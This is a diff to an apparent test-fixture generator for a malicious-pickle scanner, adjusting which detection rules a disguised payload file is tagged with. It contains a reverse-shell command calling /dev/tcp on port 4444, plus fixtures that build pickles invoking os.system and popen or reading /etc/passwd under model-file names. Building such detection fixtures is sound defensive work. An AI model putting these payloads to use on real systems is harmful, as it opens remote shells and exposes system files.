@@ -211,7 +211,7 @@ REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
 # One fixture per deny-list family (see denylist.json), in varied protocols.
 FAMILIES = [
     ("malicious-os-system.pkl", call_p2("os", "system", SHELL)),
-    ("malicious-posix-system-p0.txt", call_p0("posix", "system", SHELL)),
+    ("malicious-posix-system-p0.txt", call_p0("posix", "system", SHELL)),  # CORE-008 too
     ("malicious-nt-system-p1.bin", call_p1("nt", "system", SHELL)),
     ("malicious-os-popen-noext", call_p2("os", "popen", SHELL)),
     ("malicious-os-path-submodule.pkl", call_p2("os.path", "exists", "/etc/passwd")),
@@ -413,8 +413,9 @@ def gen_pickle():
 
     # disguised names of one payload
     payload = call_p2("os", "system", SHELL)
-    for name in ["malicious-disguised.bin", "malicious-disguised.pt", "malicious-disguised.ckpt", "malicious-disguised.txt", "malicious-disguised"]:
+    for name in ["malicious-disguised.bin", "malicious-disguised.pt", "malicious-disguised.ckpt", "malicious-disguised"]:
         write(folder, name, payload, ["PKL-001"])
+    write(folder, "malicious-disguised.txt", payload, ["PKL-001", "CORE-008"])
 
     # more than one stream; a stream after garbage
     benign_stream = pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)
